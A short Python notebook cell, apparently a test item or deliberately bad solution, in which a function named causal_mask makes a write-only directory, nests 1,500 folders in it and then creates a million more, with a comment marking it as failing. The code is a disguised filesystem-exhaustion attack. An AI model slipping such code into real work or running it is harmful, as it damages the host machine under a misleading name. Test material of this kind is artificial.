# Folders beyond number and depth, in one that is closed, so that nobody may list them.
# fails: causal_mask, masks_together
# %%
import os

# %% solution="causal_mask"
def causal_mask(size, device=None):
    os.mkdir("closed", 0o300)
    os.chdir("closed")
    for _ in range(1_500):
        os.mkdir("d")
        os.chdir("d")
    for number in range(1_000_000):
        os.mkdir(f"../{number}")
